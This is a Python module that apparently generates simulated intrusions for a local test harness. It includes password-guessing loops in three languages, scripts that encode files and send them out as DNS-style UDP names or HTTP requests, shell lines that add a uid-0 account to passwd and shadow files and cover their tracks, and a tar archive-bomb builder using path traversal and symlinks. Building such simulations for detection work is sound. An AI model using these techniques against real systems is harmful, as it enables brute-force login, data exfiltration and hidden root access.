"""What the imitated intrusions run: guessers, tampered lines, archives with tricks, smugglers."""

import io
import tarfile

import inputs
from desk import Desk

_GUESS_PYTHON = """
import socket, sys
port, user, each = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
words = open("words.txt").read().split()
while words:
    part, words = words[:each], words[each:]
    with socket.create_connection(("127.0.0.1", port)) as c:
        f = c.makefile("rw", newline="\\n")
        for word in ["HELLO intruder"] + [f"LOGIN {user} {word}" for word in part] + ["LIST"]:
            f.write(word + "\\n"); f.flush(); f.readline()
        f.write("QUIT\\n"); f.flush(); f.read()
"""
_GUESS_BASH = """
mapfile -t words < words.txt
for ((at = 0; at < ${#words[@]}; at += $3)); do
  exec 3<>/dev/tcp/127.0.0.1/$1
  echo "HELLO intruder" >&3; read -r answer <&3
  for word in "${words[@]:at:$3}"; do echo "LOGIN $2 $word" >&3; read -r answer <&3; done
  echo QUIT >&3; read -r answer <&3
  exec 3>&-
done
"""
_GUESS_PERL = """
use IO::Socket::INET; my ($port, $user, $each) = @ARGV;
open my $in, '<', 'words.txt'; chomp(my @words = <$in>);
while (my @part = splice @words, 0, $each) {
  my $s = IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => $port); my $answer;
  for ('HELLO intruder', map { "LOGIN $user $_" } @part) { print $s "$_\\n"; $s->flush; $answer = <$s>; }
  print $s "QUIT\\n"; $s->flush; $answer = <$s>; close $s;
}
"""
_SEND_PYTHON = """
import base64, pathlib, socket, sys, time
port, size, pause, way = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
for path in sorted(pathlib.Path("files").iterdir()):
    data = base64.b32encode(path.read_bytes()).decode().lower().rstrip("=")
    for at in range(0, len(data), size):
        name = f"{at}.{data[at:at + size]}.example"
        if way == "udp":
            packet = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\\0\\0\\x01\\0\\x01"
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.sendto(b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0" + packet, ("127.0.0.1", port))
        else:
            with socket.create_connection(("127.0.0.1", port)) as s:
                s.sendall(f"GET /{name} HTTP/1.0\\r\\n\\r\\n".encode())
        time.sleep(pause)
"""
_SEND_PERL = """
use IO::Socket::INET; my ($port, $size) = @ARGV;
my $s = IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => $port, Proto => 'udp');
for my $path (glob 'files/*') {
  open my $in, '<:raw', $path; while (read $in, my $data, $size) { $s->send(unpack 'H*', $data); } close $in;
}
"""
_SEND_BASH = """
for path in files/*; do
  for data in $(base64 -w "$2" "$path"); do echo "$data.example" > /dev/udp/127.0.0.1/$1; done
done
"""


def guesser(desk: Desk, port: int, user: str, tries_each: int) -> list[str]:
    """The command of a password guesser, in one of three languages."""
    command = desk.turn(
        [["python3", "-c", _GUESS_PYTHON], ["bash", "-c", _GUESS_BASH, "bash"], ["perl", "-e", _GUESS_PERL]]
    )
    return [*command, str(port), user, str(tries_each)]


def smuggler(desk: Desk, port: int) -> list[str]:
    """The command of a smuggler: names of a made-up domain over UDP, or short TCP connections."""
    size, pause = str(desk.random.randint(40, 120)), str(desk.random.choice([0, 0.0005, 0.002]))
    python = ["python3", "-c", _SEND_PYTHON, str(port), size, pause]
    return desk.turn(
        [
            [*python, "udp"],
            [*python, "tcp"],
            ["perl", "-e", _SEND_PERL, str(port), size],
            ["bash", "-c", _SEND_BASH, "bash", str(port), size],
        ]
    )


def account_lines(desk: Desk) -> list[str]:
    """Shell lines that add an account with user id 0 to ../accounts, in one of several ways."""
    random = desk.random
    name = inputs.word(random)
    row, secret = f"{name}:x:0:0::/root:/bin/bash", f"{name}:$6$ab$made-up:20000:0:99999:7:::"
    adding = desk.turn(
        [
            [f"echo '{row}' >> ../accounts/passwd", f"echo '{secret}' >> ../accounts/shadow"],
            [f"sed -i '$a {row}' ../accounts/passwd", f"sed -i '2i {secret}' ../accounts/shadow"],
            [
                f"awk '{{ print }} END {{ print \"{row}\" }}' ../accounts/passwd > ../accounts/passwd+",
                "mv ../accounts/passwd+ ../accounts/passwd",
                f"echo '{secret}' >> ../accounts/shadow",
            ],
            [
                f"perl -i -pe 'print qq({row}\\n) if $. == 2' ../accounts/passwd",
                f"echo '{secret}' >> ../accounts/shadow",
            ],
            [
                f'python3 -c \'open("../accounts/passwd", "a").write("{row}\\n")\'',
                f"echo '{secret}' >> ../accounts/shadow",
            ],
        ]
    )
    keeping = random.choice(
        [[], ["cp -p ../accounts/passwd ../accounts/passwd-"], ["cp ../accounts/shadow ../accounts/shadow-"]]
    )
    hiding = random.choice(
        [[], ["chmod 600 ../accounts/shadow"], ["touch -r ../accounts ../accounts/passwd ../accounts/shadow"]]
    )
    return [*keeping, *adding, *hiding, f"grep -c {name} ../accounts/passwd > /dev/null"]


def archive_bomb(desk: Desk) -> None:
    """Writes bomb.tar.gz: members that leave the folder or write through a link, zeros, many, deep or repeated ones."""
    random = desk.random
    trick = desk.turn(["leave", "link", "zeros", "many", "deep", "again"])
    with tarfile.open(desk.folder / "bomb.tar.gz", "w:gz") as tar:
        if trick == "link":
            (desk.folder / "outside").mkdir()
            link = tarfile.TarInfo("door")
            link.type, link.linkname = tarfile.SYMTYPE, "../outside"
            tar.addfile(link)
        for number in range(random.randint(15, 90)):
            name = inputs.word(random) + str(number)
            path = {
                "leave": f"../{name}",
                "link": f"door/{name}",
                "deep": "d/" * (number % 30 + 1) + name,
                "again": "same",
            }.get(trick, name)
            data = b"\0" * 200_000 if trick == "zeros" and number < 12 else inputs.prose(random, 60).encode()
            member = tarfile.TarInfo(path)
            member.size = len(data)
            tar.addfile(member, io.BytesIO(data))
